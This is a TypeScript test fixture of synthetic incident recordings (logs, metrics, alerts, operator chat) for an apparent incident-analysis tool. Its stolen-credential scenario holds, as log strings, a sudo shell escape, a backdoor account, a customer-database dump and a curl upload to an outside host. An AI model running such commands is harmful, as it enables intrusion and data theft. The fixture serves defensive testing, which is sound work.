import type { Line } from "@/lib/signals/testing/records";
import {
  alert,
  answer,
  change,
  each,
  frontDoor,
  log,
  metric,
  recordingSeconds,
  says,
  wobble,
} from "./recording-lines";

/** Hand-made recordings of ten minutes: what operators see, in domains of their own. */
export const certificateExpires: readonly Line[] = [
  ...frontDoor("edge-1/access.log", 200, 330),
  ...each(0, recordingSeconds, 2, (at) => log("api-01/billing.log", at, `request ${at} completed`)),
  ...each(200, 330, 2, (at) =>
    log(
      "api-01/billing.log",
      at + 0.1,
      `request to ledger failed: certificate has expired (${at})`,
      "error",
    ),
  ),
  alert(212, "BillingErrorsHigh", "firing", 212, "billing returns errors"),
  alert(345, "BillingErrorsHigh", "resolved", 212, "billing returns errors"),
  says(240, "oncall-7", "maybe the ledger is down?"),
  says(255, "anna", "ledger is healthy, it answers on localhost"),
  says(
    280,
    "anna",
    "the certificate of ledger-01 expired at 09:03 because the renewal job lost its token, so every new connection is refused",
  ),
  change(325, {
    type: "certificate",
    service: "ledger",
    host: "ledger-01",
    action: "renew",
    by: "anna",
  }),
];

export const diskFills: readonly Line[] = [
  ...frontDoor("edge-9/access.log", 301, 420),
  ...metric("metrics/disk.csv", "node_filesystem_avail_bytes", "pg-01", (at) =>
    at < 150 ? 9e9 + wobble(at) * 1e6 : at < 420 ? Math.max(0, 9e9 - (at - 150) * 6e7) : 9e9,
  ),
  ...each(0, recordingSeconds, 1, (at) => log("app-03/checkout.log", at, `checkout ${at} fine`)),
  ...each(300, 420, 2, (at) =>
    log(
      "pg-01/postgresql.log",
      at,
      `could not extend file "base/${at}": No space left on device`,
      "error",
    ),
  ),
  change(148, {
    type: "config",
    service: "postgres",
    host: "pg-01",
    key: "log_statement",
    old: "none",
    new: "all",
    by: "dba-2",
  }),
  alert(315, "CheckoutErrors", "firing", 315, "checkout fails"),
  alert(440, "CheckoutErrors", "resolved", 315, "checkout fails"),
  says(
    370,
    "dba-2",
    "that is me, log_statement=all since 09:02 writes into the data volume, so it filled up",
  ),
  change(410, {
    type: "config",
    service: "postgres",
    host: "pg-01",
    key: "log_statement",
    old: "all",
    new: "none",
    by: "dba-2",
  }),
];

export const poisonMessage: readonly Line[] = [
  ...each(0, 205, 1, (at) => log("worker-01/invoice.log", at, `handled message m${at}`)),
  ...each(206, 390, 14, (at) =>
    log(
      "worker-01/invoice.log",
      at,
      `cannot deserialize message m777 of attempt at ${at}`,
      "error",
    ),
  ),
  ...each(206, 390, 14, (at) =>
    log(
      "worker-01/supervisord.log",
      at + 0.5,
      "exited: invoice (exit status 1; not expected)",
      "warning",
    ),
  ),
  ...each(400, recordingSeconds, 1, (at) =>
    log("worker-01/invoice.log", at, `handled message m${at}`),
  ),
  ...metric("metrics/broker.csv", "rabbitmq_queue_messages_ready", "mq-01", (at) =>
    at < 206 ? wobble(at) : at < 400 ? (at - 205) * 5 : 0,
  ),
  change(40, { type: "job", job: "nightly-vacuum", host: "db-02", status: "started", by: "cron" }),
  change(60, { type: "job", job: "nightly-vacuum", host: "db-02", status: "finished", by: "cron" }),
  change(180, {
    type: "deploy",
    service: "billing-api",
    host: "api-02",
    version: "4.2.0",
    status: "started",
    by: "ci",
  }),
  change(184, {
    type: "deploy",
    service: "billing-api",
    host: "api-02",
    version: "4.2.0",
    status: "finished",
    by: "ci",
  }),
  change(190, { type: "job", job: "nightly-vacuum", host: "db-02", status: "started", by: "cron" }),
  alert(240, "InvoiceBacklog", "firing", 240, "the invoices queue is growing"),
  alert(430, "InvoiceBacklog", "resolved", 240, "the invoices queue is growing"),
  says(
    340,
    "anna",
    "billing-api 4.2.0 which went out at 09:03 writes NaN when the discount is empty, so the worker throws and the broker redelivers it",
  ),
  change(380, {
    type: "rollback",
    service: "billing-api",
    host: "api-02",
    version: "4.1.3",
    status: "started",
    by: "ci",
  }),
];

export const nameIsDropped: readonly Line[] = [
  ...frontDoor("lb-02/access.log", 190, 370),
  ...each(0, recordingSeconds, 1, (at) => log("web-01/web.log", at, `page ${at} rendered`)),
  ...each(185, 370, 2, (at) =>
    log("web-01/web.log", at + 0.2, `getaddrinfo ENOTFOUND stock.svc.shop (${at})`, "error"),
  ),
  change(60, {
    type: "deploy",
    service: "search",
    host: "search-01",
    version: "9.1.0",
    status: "started",
    by: "ci",
  }),
  change(160, {
    type: "dns",
    zone: "svc.shop",
    host: "ns-01",
    key: "serial",
    old: "401",
    new: "402",
    ticket: "DNS-88",
    by: "net-4",
  }),
  alert(206, "WebErrors", "firing", 206, "web returns 5xx"),
  alert(392, "WebErrors", "resolved", 206, "web returns 5xx"),
  says(230, "oncall-2", "could be search 9.1.0?"),
  says(250, "anna", "it is not the search release, the page does not call it"),
  says(
    300,
    "net-4",
    "the record for stock was dropped in DNS-88 at 09:02, so resolvers return nothing once the ttl is over",
  ),
  change(350, {
    type: "dns",
    zone: "svc.shop",
    host: "ns-01",
    key: "serial",
    old: "402",
    new: "403",
    ticket: "DNS-88",
    by: "net-4",
    note: "revert",
  }),
];

export const replicaFallsBehind: readonly Line[] = [
  ...metric("metrics/mysql.csv", "seconds_behind_master", "db-r1", (at) =>
    at < 220 || at > 480 ? wobble(at) / 10 : (at - 215) * 0.4,
  ),
  ...each(0, recordingSeconds, 1, (at) => log("app-01/shop.log", at, `order page ${at} rendered`)),
  ...each(250, 480, 2, (at) =>
    log(
      "app-01/shop.log",
      at + 0.1,
      `order o${at} not found on the replica right after its write`,
      "warning",
    ),
  ),
  change(212, {
    type: "migration",
    service: "shop",
    host: "db-p1",
    version: "m-0042",
    status: "started",
    by: "dev-4",
  }),
  alert(260, "ReplicaLagHigh", "firing", 260, "the replica is far behind"),
  alert(500, "ReplicaLagHigh", "resolved", 260, "the replica is far behind"),
  says(
    330,
    "dba-1",
    "the migration m-0042 runs since 09:03 on the primary, so the replica applies it single threaded and everything behind it waits",
  ),
  change(360, {
    type: "config",
    service: "shop",
    key: "db.read_from_replica",
    old: "true",
    new: "false",
    by: "oncall-1",
  }),
];

export const stolenCredential: readonly Line[] = [
  ...each(0, recordingSeconds, 4, (at) =>
    log("jump-7/secure", at, `pam_unix(cron:session): session opened for user backup number ${at}`),
  ),
  ...each(100, 130, 1, (at) =>
    log(
      "jump-7/secure",
      at + 0.3,
      `Failed password for invalid user u${at} from 198.18.4.4 port 4${at} ssh2`,
    ),
  ),
  log("jump-7/secure", 132.5, "Accepted password for batch from 198.18.4.4 port 4999 ssh2"),
  log("jump-7/secure", 150.5, "batch : PWD=/home/batch ; USER=root ; COMMAND=/usr/bin/vim -c :!sh"),
  log("jump-7/secure", 160.5, "new user: name=helper2, UID=1400, GID=1400, home=/home/helper2"),
  log("jump-7/secure", 200.5, "Accepted publickey for helper2 from 192.0.2.77 port 51 ssh2"),
  log("jump-7/commands.log", 240.5, "exec pg_dump -U crm customers"),
  log("jump-7/commands.log", 255.5, "exec curl -T /srv/c.gz http://192.0.2.77/up"),
  change(20, {
    type: "config",
    service: "fail2ban",
    host: "jump-7",
    key: "enabled",
    old: "true",
    new: "false",
    by: "ops-2",
  }),
  alert(262, "EgressHigh", "firing", 262, "unusual outbound volume"),
  change(400, {
    type: "security",
    host: "jump-7",
    action: "block",
    addresses: "198.18.4.4, 192.0.2.77",
    by: "soc-1",
  }),
];

export const quietDay: readonly Line[] = [
  ...each(0, recordingSeconds, 0.5, (at) =>
    answer("edge-1/access.log", at, at % 97 === 0 ? 404 : 200),
  ),
  ...each(0, recordingSeconds, 1, (at) => log("app-01/app.log", at, `request ${at} completed`)),
  ...each(15, recordingSeconds, 45, (at) =>
    log("app-01/app.log", at + 0.2, `slow request ${at}`, "warning"),
  ),
  ...each(20, recordingSeconds, 130, (at) =>
    log("app-01/app.log", at + 0.3, `client closed connection ${at}`, "error"),
  ),
  ...metric(
    "metrics/app.csv",
    "process_resident_memory_bytes",
    "app-01",
    (at) => 5e7 + wobble(at) * 1e5,
  ),
  change(300, { type: "job", job: "report", host: "db-1", status: "started", by: "cron" }),
  change(320, { type: "job", job: "report", host: "db-1", status: "finished", by: "cron" }),
];
